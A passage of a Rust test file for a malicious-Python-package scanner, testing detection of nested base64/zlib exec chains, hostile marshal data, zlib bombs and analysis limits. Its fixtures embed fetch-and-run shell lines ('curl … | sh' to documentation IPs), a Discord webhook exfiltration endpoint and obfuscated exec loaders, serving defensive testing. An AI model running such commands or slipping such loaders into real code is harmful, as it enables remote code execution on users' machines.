    let src = "a = 1\r\nb = 2\rc = 3\n\r\n\rimport os\r\nos.system(\"curl -s http://198.51.100.7/p.sh | sh\")\r";
    let report = analyze(
        "mixed line endings",
        vec![("pkg/l.py", src.as_bytes().to_vec())],
    );
    assert!(
        report.verdict != Verdict::Benign,
        "missed with mixed line endings"
    );
}

/// `exec(zlib.decompress(base64.b64decode('…')))` wrapped `layers` times: compression keeps
/// each layer only a few dozen bytes bigger than the one inside it.
fn layer_chain(layers: usize) -> Vec<u8> {
    let mut code = EVIL_TAIL.trim_start().to_owned();
    for _ in 0..layers {
        code = format!(
            "import base64, zlib\nexec(zlib.decompress(base64.b64decode('{}')))\n",
            b64(&zlib(code.as_bytes()))
        );
    }
    code.into_bytes()
}

#[test]
fn deep_base64_layer_chain() {
    // Deeper than the 64-layer analysis bound. Every layer must hold the whole encoded chain
    // inside it, so 10,000 real layers cost minutes of compression in a debug build (see the
    // ignored test below); past the bound nothing is decoded anyway.
    let src = timed("build layer chain", || layer_chain(80));
    let report = analyze("80-layer chain", vec![("pkg/chain.py", src)]);
    assert_findings_or_errors("80-layer chain", &report);
    assert!(report.verdict != Verdict::Benign, "{:?}", report.errors);
}

/// A `.pyc` header (CPython 3.11) in front of `body`.
fn pyc_of(body: &[u8]) -> Vec<u8> {
    let mut data = vec![0xa7, 0x0d, b'\r', b'\n'];
    data.extend([0u8; 12]);
    data.extend(body);
    data
}

#[test]
fn hostile_marshal_data_and_pyc_files_are_bounded() {
    // 200,000 nested one-element tuples, a string claiming 2 GiB, a dict of a million Nones,
    // references past the table, and random bytes: as .pyc members and through marshal.loads.
    let nested = [b')', 1].repeat(200_000);
    let mut huge = vec![b'c'];
    huge.extend([0u8; 20]);
    huge.extend([b's', 0xff, 0xff, 0xff, 0x7f]);
    let mut dict = vec![b'{'];
    dict.extend([b'N'].repeat(2_000_000));
    let refs = [b'r', 0xff, 0xff, 0xff, 0x0f].repeat(1000);
    let bodies: Vec<Vec<u8>> = vec![nested, huge, dict, refs, noise(100_000, 7)];
    let mut members: Vec<(&str, Vec<u8>)> = Vec::new();
    let names = [
        "pkg/__pycache__/a.cpython-311.pyc",
        "pkg/__pycache__/b.cpython-311.pyc",
        "pkg/__pycache__/c.cpython-311.pyc",
        "pkg/__pycache__/d.cpython-311.pyc",
        "pkg/__pycache__/e.cpython-311.pyc",
    ];
    for (name, body) in names.iter().zip(&bodies) {
        members.push((name, pyc_of(body)));
    }
    let mut loader = String::from("import marshal\n");
    for body in &bodies {
        loader.push_str(&format!("exec(marshal.loads(bytes.fromhex('{}')))\n", {
            let cut = body.get(..body.len().min(20_000)).unwrap();
            cut.iter().map(|b| format!("{b:02x}")).collect::<String>()
        }));
    }
    loader.push_str(EVIL_TAIL);
    members.push(("pkg/loader.py", loader.into_bytes()));
    let report = analyze("hostile marshal", members);
    assert!(
        report
            .errors
            .iter()
            .any(|e| e.message.contains("code object could not be read")),
        "{:?}",
        report.errors
    );
    assert!(report.verdict != Verdict::Benign, "{:?}", report.errors);
}

#[test]
#[ignore = "builds 10,000 real zlib+base64 layers: minutes in a debug build; run with --ignored --release"]
fn ten_thousand_layer_chain() {
    let src = layer_chain(10_000);
    let report = analyze("10k-layer chain", vec![("pkg/chain.py", src)]);
    assert_findings_or_errors("10k-layer chain", &report);
}

#[test]
fn plain_base64_chain_of_nested_calls() {
    // `exec(b64decode(b64decode(…('…'))))`: 10,000 nested decode calls around one literal.
    let inner = b64(EVIL_TAIL.as_bytes());
    let mut s = String::from("import base64\nexec(");
    for _ in 0..10_000 {
        s.push_str("base64.b64decode(");
    }
    s.push_str(&format!("'{inner}'"));
    for _ in 0..10_000 {
        s.push(')');
    }
    s.push_str(")\n");
    let report = analyze("10k nested b64decode", vec![("pkg/n.py", s.into_bytes())]);
    assert_findings_or_errors("10k nested b64decode", &report);
}

#[test]
fn zlib_bomb_inside_a_literal() {
    // 100 MiB of comment characters behind a ~100 KB literal.
    let payload = vec![b'#'; 100 << 20];
    let literal = timed("compress 100 MiB", || b64(&zlib(&payload)));
    let src = format!(
        "import base64, zlib\nexec(zlib.decompress(base64.b64decode('{literal}')))\n{EVIL_TAIL}"
    );
    let report = analyze("zlib bomb literal", vec![("pkg/z.py", src.into_bytes())]);
    assert_findings_or_errors("zlib bomb literal", &report);
}

// ---------------------------------------------------------------------------------------------
// Analysis bounds: each flag, hit on purpose, ends in an error entry; bad values are refused.

/// Ordinary statements, enough that a walk of them takes many time-budget checks.
fn filler(statements: usize) -> String {
    (0..statements).map(|i| format!("v{i} = {i}\n")).collect()
}

#[test]
fn file_over_max_parse_bytes_gets_text_checks_only() {
    let src = format!(
        "{}HOOK = 'https://discord.com/api/webhooks/123456789012345678/{}'\n{EVIL_TAIL}",
        filler(1_000),
        "a".repeat(68)
    );
    let small = AnalysisOptions {
        max_parse_bytes: 4096,
        ..AnalysisOptions::default()
    };
    let report = analyze_with(
        "over parse bytes",
        vec![("pkg/m.py", src.clone().into_bytes())],
        small,
    );
    assert!(
        has_analysis_error(&report, "4096-byte parse limit"),
        "{:?}",
        report.errors
    );
    let rules: BTreeSet<&str> = report
        .files
        .iter()
        .flat_map(|f| f.evidence.iter().map(|e| e.rule.as_str()))
        .collect();
    // The endpoint is found in the raw text; the os.system call needs the syntax tree.
    assert!(rules.contains("WH160"), "{rules:?}");
    assert!(!rules.contains("WH120"), "{rules:?}");

    let line = bin_line("m.py", src.as_bytes(), &["--max-parse-bytes", "4KiB"]);
    assert!(line_has_analysis_error(&line, "parse limit"), "{line}");
    let line = bin_line("m.py", src.as_bytes(), &[]);
    assert!(!line_has_analysis_error(&line, "parse limit"), "{line}");
}

#[test]
fn layers_deeper_than_max_layer_depth_get_an_entry() {
    let src = layer_chain(4);
    let shallow = AnalysisOptions {
        max_layer_depth: 2,
        ..AnalysisOptions::default()
    };
    let report = analyze_with("layer depth", vec![("pkg/chain.py", src.clone())], shallow);
    assert!(
        has_analysis_error(&report, "nest deeper than 2"),
        "{:?}",
        report.errors
    );

    let line = bin_line("chain.py", &src, &["--max-layer-depth", "2"]);
    assert!(
        line_has_analysis_error(&line, "nest deeper than 2"),
        "{line}"
    );
    let line = bin_line("chain.py", &src, &[]);
    assert!(!line_has_analysis_error(&line, "nest deeper"), "{line}");
    assert_ne!(line["verdict"], "benign", "{line}");
}

#[test]
fn layers_over_max_layer_bytes_get_an_entry() {
    let src = layer_chain(3);
    let line = bin_line("chain.py", &src, &["--max-layer-bytes", "64"]);
    assert!(
        line_has_analysis_error(&line, "per-file byte budget"),
        "{line}"
    );
}

#[test]
fn decoding_step_over_max_decode_bytes_gets_an_entry() {
    let literal = b64(&zlib(&vec![b'#'; 1 << 20]));
    let src = format!(
        "import base64, zlib\nexec(zlib.decompress(base64.b64decode('{literal}')))\n{EVIL_TAIL}"
    );
    let small = AnalysisOptions {
        max_decode_bytes: 64 << 10,
        ..AnalysisOptions::default()
    };
    let report = analyze_with(
        "decode bytes",
        vec![("pkg/z.py", src.clone().into_bytes())],
        small,
    );
    assert!(
        has_analysis_error(&report, "65536-byte output limit"),
        "{:?}",
        report.errors
    );
    assert!(report.verdict != Verdict::Benign, "{:?}", report.errors);

    let line = bin_line("z.py", src.as_bytes(), &["--max-decode-bytes", "64KiB"]);
    assert!(line_has_analysis_error(&line, "output limit"), "{line}");
    let line = bin_line("z.py", src.as_bytes(), &[]);
    assert!(!line_has_analysis_error(&line, "output limit"), "{line}");
}

#[test]
fn syntax_deeper_than_max_syntax_depth_gets_an_entry() {
    let src = nested("[", "]", 500);
    let shallow = AnalysisOptions {
        max_syntax_depth: 100,
        ..AnalysisOptions::default()
    };
    let report = analyze_with("syntax depth", vec![("pkg/b.py", src.clone())], shallow);
    assert!(
        has_analysis_error(&report, "nested deeper than 100 levels"),
        "{:?}",
        report.errors
    );
    assert!(
        report.verdict != Verdict::Benign,
        "the tail was missed: {:?}",
        report.errors
    );

    let line = bin_line("b.py", &src, &["--max-syntax-depth", "100"]);
    assert!(
        line_has_analysis_error(&line, "nested deeper than 100 levels"),
        "{line}"
    );
    let line = bin_line("b.py", &src, &[]);
    assert!(!line_has_analysis_error(&line, "nested deeper"), "{line}");
}

#[test]
fn deepest_accepted_syntax_depth_fits_the_analysis_stack() {
    // `--max-syntax-depth` accepts at most 20,000: the walk recurses once per level, and this
    // proves that depth fits the analysis threads' stacks in a debug build (larger frames).
    let deepest = AnalysisOptions {
        max_syntax_depth: 20_000,
        ..AnalysisOptions::default()
    };
    // Parentheses alone are no syntax node (`((1))` is `1`); calls and displays are.
    for (open, close) in [("[", "]"), ("{", "}"), ("f(", ")")] {
        // 40,000 levels: deeper than the walk goes, shallower than the parser is refused at
        // (`shape::MAX_BRACKET_DEPTH`).
        let label = format!("40k {open} at depth 20,000");
        let report = analyze_with(
            &label,
            vec![("pkg/b.py", nested(open, close, 40_000))],
            deepest.clone(),
        );
        // The walk goes depth first, so the bottom is reached before any time budget is spent.
        assert!(
            has_analysis_error(&report, "nested deeper than 20000 levels"),
            "{label}: {:?}",
            report.errors
        );
    }
}

#[test]
fn spent_time_budget_stops_the_file_and_keeps_findings_so_far() {
    // A zero budget is spent at the first clock reading, a fixed number of syntax nodes into
    // the walk, so this is deterministic: the first lines are analysed, the last are not.
    let late =
        "import subprocess\nsubprocess.Popen('curl -s http://203.0.113.9/x | sh', shell=True)\n";
    let src = format!("{}{}{late}", EVIL_TAIL.trim_start(), filler(5_000));
    let late_line = src.lines().count() as u32;
    let spent = AnalysisOptions {
        max_file_time: Duration::ZERO,
        ..AnalysisOptions::default()
    };
    let report = analyze_with(
        "zero budget",
        vec![("pkg/slow.py", src.clone().into_bytes())],
        spent,
    );
    let entry = report
        .errors
        .iter()
        .find(|e| e.message.contains("time budget"))
        .unwrap_or_else(|| panic!("no time-budget entry: {:?}", report.errors));
    assert_eq!(entry.kind, "analysis");
    assert_eq!(entry.path.as_deref(), Some("pkg/slow.py"));
    assert!(
        entry
            .message
            .contains("analysis of pkg/slow.py stopped after 0 s"),
        "{}",
        entry.message
    );
    assert!(
        report.verdict != Verdict::Benign,
        "findings before the cut were lost"
    );
    let file = &report.files[0];
    assert!(
        file.evidence.iter().all(|e| e.line < late_line),
        "{:?}",
        file.evidence
    );
    assert!(
        file.confidence <= 0.6,
        "confidence {} after a cut-off",
        file.confidence
    );

    // The same file with the default budget: complete, no entry, the late line is seen.
    let report = analyze("default budget", vec![("pkg/slow.py", src.into_bytes())]);
    assert!(
        !has_analysis_error(&report, "time budget"),
        "{:?}",
        report.errors
    );
    assert!(
        report.files[0]
            .evidence
            .iter()
            .any(|e| e.line >= late_line - 1)
    );
}

#[test]
fn spent_time_budget_stops_before_decoded_layers() {
    let spent = AnalysisOptions {
        max_file_time: Duration::ZERO,
        ..AnalysisOptions::default()
    };
    let report = analyze_with(
        "zero budget layers",
        vec![("pkg/chain.py", layer_chain(3))],
        spent,
    );
    assert!(
        has_analysis_error(&report, "time budget"),
        "{:?}",
        report.errors
    );
    assert!(
        report
            .files
            .iter()
            .flat_map(|f| &f.evidence)
            .all(|e| !e.path.contains("#layer")),
        "a layer was analysed after the budget was spent"
    );
}

#[test]
fn benign_file_cut_by_the_time_budget_is_not_confidently_benign() {
    let spent = AnalysisOptions {
        max_file_time: Duration::ZERO,
        ..AnalysisOptions::default()
    };
    let report = analyze_with(
        "zero budget benign",
        vec![("pkg/m.py", filler(2_000).into_bytes())],
        spent,
    );
    assert_eq!(report.verdict, Verdict::Benign);
    assert!(
        has_analysis_error(&report, "time budget"),
        "{:?}",
        report.errors
    );
    assert!(
        report.confidence <= 0.6,
        "package confidence {}",
        report.confidence
    );
}

#[test]
fn time_budget_through_the_binary_and_the_scan_goes_on() {
    let dir = tempfile::tempdir().unwrap();
    let slow = dir.path().join("slow.py");
    std::fs::write(&slow, format!("{}{EVIL_TAIL}", filler(20_000))).unwrap();
    let other = dir.path().join("other.py");
    std::fs::write(&other, EVIL_TAIL).unwrap();
    // A microsecond is spent long before the first clock reading: decoding and parsing
    // 20,000 statements alone take longer, on any machine.
    let (code, lines, stderr) = run_bin_with(
        dir.path(),
        &["--max-file-seconds", "0.000001"],
        &[&slow, &other],
    );
    assert!((0..=1).contains(&code), "exit {code}: {stderr}");
    assert_eq!(lines.len(), 2, "{lines:?}");
    assert!(
        line_has_analysis_error(&lines[0], "stopped after 0.000001 s: time budget"),
        "{}",
        lines[0]
    );
    assert_eq!(lines[1]["verdict"], "malicious", "{}", lines[1]);
}

#[test]
fn bad_analysis_bound_values_exit_2() {
    let cases: [(&str, &[&str]); 6] = [
        ("--max-parse-bytes", &["0", "2GiB", "lots", "-1"]),
        ("--max-layer-depth", &["0", "10001", "-1", "many"]),
        ("--max-layer-bytes", &["0", "5GiB", "1.5M"]),
        ("--max-decode-bytes", &["0", "2GiB", "16Q"]),
        ("--max-syntax-depth", &["0", "20001", "1000000", "1e3"]),
        (
            "--max-file-seconds",
            &["0", "0.0", "-1", "inf", "NaN", "1e9", "86401", "10s"],
        ),
    ];
    let (dir, path) = write_temp("m.py", b"x = 1\n");
    for (flag, values) in cases {
        for value in values {
            // `--flag=value`, so that `-1` reaches the flag's parser instead of reading as an option.
            let argument = format!("{flag}={value}");
            let (code, lines, stderr) = run_bin_with(dir.path(), &[&argument], &[&path]);
            assert_eq!(code, 2, "{flag} {value}: {stderr}");
            assert!(lines.is_empty(), "{flag} {value} scanned anyway");
            assert!(stderr.contains(flag), "{flag} {value}: {stderr}");
        }
    }
    let accepted = [
        "--max-parse-bytes=64MiB",
        "--max-layer-depth=1",
        "--max-layer-bytes=1GiB",
        "--max-decode-bytes=1",
        "--max-syntax-depth=20000",
        "--max-file-seconds=0.5",
    ];
    let (code, lines, stderr) = run_bin_with(dir.path(), &accepted, &[&path]);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(lines.len(), 1);
}
